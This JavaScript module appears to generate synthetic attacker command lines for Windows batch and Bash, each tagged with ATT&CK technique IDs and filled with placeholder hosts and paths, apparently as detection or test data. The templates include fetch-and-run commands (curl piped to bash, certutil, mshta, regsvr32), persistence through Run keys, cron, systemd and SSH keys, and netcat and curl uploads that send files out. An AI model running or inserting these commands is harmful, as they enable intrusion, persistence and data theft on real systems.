const RUN = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';

/**
 * Batch bodies. No line has a percent, exclamation or caret sign or an angle bracket, so a class has only its own special
 * characters to mind; a few lines have `&` or double quotes, which classes must either carry or refuse.
 */
export const batchTemplates = [
  { name: 'certutil', techniques: ['T1105'], lines: (plant) => [`certutil -urlcache -split -f ${plant.url('exe')} ${plant.windowsPath()}`] },
  { name: 'bitsadmin', techniques: ['T1197'], lines: (plant, rng) => [`bitsadmin /transfer ${rng.name()} /download /priority high ${plant.url('cab')} ${plant.windowsPath('cab')}`] },
  { name: 'curl', techniques: ['T1105'], lines: (plant) => [`curl -s -A "${plant.userAgent()}" -o ${plant.windowsPath('zip')} ${plant.url('zip')}`] },
  { name: 'run-key', techniques: ['T1547.001'], lines: (plant, rng) => [`reg add ${plant.registryKey('HKCU', RUN)} /v ${rng.name()} /t REG_SZ /d ${plant.windowsPath()} /f`] },
  { name: 'task', techniques: ['T1053.005'], lines: (plant) => [`schtasks /create /tn ${plant.task()} /tr ${plant.windowsPath()} /sc onlogon /f`] },
  { name: 'service', techniques: ['T1543.003'], lines: (plant) => [`sc create ${plant.service()} binPath= ${plant.windowsPath()} start= auto`] },
  { name: 'account', techniques: ['T1136.001'], lines: (plant) => [`net user ${plant.account()} /add /active:no`] },
  { name: 'mshta', techniques: ['T1218.005'], lines: (plant) => [`mshta ${plant.url('hta')}`] },
  { name: 'regsvr32', techniques: ['T1218.010'], lines: (plant) => [`regsvr32 /s /n /u /i:${plant.url('sct')} scrobj.dll`] },
  { name: 'rundll32', techniques: ['T1218.011'], lines: (plant) => [`rundll32 ${plant.windowsPath('dll')},Start`] },
  { name: 'wmic', techniques: ['T1047'], lines: (plant) => [`wmic process call create ${plant.windowsPath()}`] },
  { name: 'share', techniques: ['T1021.002'], lines: (plant) => [`net use \\\\${plant.ip()}\\share /user:${plant.account()}`] },
  { name: 'discovery', techniques: ['T1016', 'T1033', 'T1082'], lines: () => ['whoami /all', 'systeminfo', 'ipconfig /all'] },
  { name: 'tasklist', techniques: ['T1057', 'T1018'], lines: (plant) => [`tasklist /svc & ping -n 1 ${plant.domain()}`] },
  { name: 'msiexec', techniques: ['T1218.007'], lines: (plant) => [`msiexec /q /i ${plant.url('msi')}`] },
  { name: 'download-start', techniques: ['T1105'], lines: (plant) => {
    const path = plant.windowsPath();
    return [`certutil -urlcache -f ${plant.url('exe')} ${path} && start ${path}`];
  } },
];

/** Bash bodies: plain POSIX words where possible, some with single quotes, double quotes, `$` and `|`. */
export const bashTemplates = [
  { name: 'curl', techniques: ['T1105', 'T1222.002'], lines: (plant) => {
    const path = plant.unixPath();
    return [`curl -fsSL ${plant.url('sh')} -o ${path}`, `chmod +x ${path}`];
  } },
  { name: 'wget', techniques: ['T1105'], lines: (plant) => [`wget -q --user-agent="${plant.userAgent()}" -O ${plant.unixPath()} ${plant.url('bin')}`] },
  { name: 'cron', techniques: ['T1053.003'], lines: (plant) => [`(crontab -l; echo '*/30 * * * * ${plant.unixPath('sh')}') | crontab -`] },
  { name: 'systemd', techniques: ['T1543.002'], lines: (plant) => {
    const service = plant.service();
    return [`printf '[Service]\\nExecStart=%s\\n' ${plant.unixPath()} > /etc/systemd/system/${service}.service`, `systemctl enable ${service}`];
  } },
  { name: 'account', techniques: ['T1136.001'], lines: (plant) => [`useradd -M -s /bin/bash ${plant.account()}`] },
  { name: 'keys', techniques: ['T1098.004'], lines: (plant) => [`echo 'ssh-ed25519 AAAAC3Example ${plant.mail()}' >> /root/.ssh/authorized_keys`] },
  { name: 'tcp', techniques: ['T1059.004'], lines: (plant) => {
    const { ip, port } = plant.endpoint();
    return [`exec 3<>/dev/tcp/${ip}/${port}`, 'echo hello >&3'];
  } },
  { name: 'netcat', techniques: ['T1095'], lines: (plant) => {
    const { ip, port } = plant.endpoint();
    return [`nc -w 3 ${ip} ${port} < ${plant.unixPath('log')}`];
  } },
  { name: 'discovery', techniques: ['T1033', 'T1082', 'T1016'], lines: () => ['id', 'uname -a', 'ip addr show'] },
  { name: 'passwd', techniques: ['T1087.001'], lines: (plant) => [`cut -d: -f1 /etc/passwd > ${plant.unixPath('txt')}`] },
  { name: 'upload', techniques: ['T1560.001', 'T1048'], lines: (plant) => {
    const path = plant.unixPath('tgz');
    return [`tar czf ${path} /var/log`, `curl -s -F file=@${path} ${plant.url('php')}`];
  } },
  { name: 'hash', techniques: [], lines: (plant) => [`echo "${plant.hash()}  ${plant.unixPath()}" | sha256sum -c --status`] },
  { name: 'profile', techniques: ['T1546.004'], lines: (plant) => [`echo 'nohup ${plant.unixPath()} &' >> ~/.bashrc`] },
  { name: 'resolve', techniques: ['T1018'], lines: (plant) => [`for host in ${plant.domain()} ${plant.ip()}; do ping -c 1 "$host"; done`] },
  { name: 'pipe', techniques: ['T1105'], lines: (plant) => [`curl -s ${plant.url('sh')} | bash`] },
];
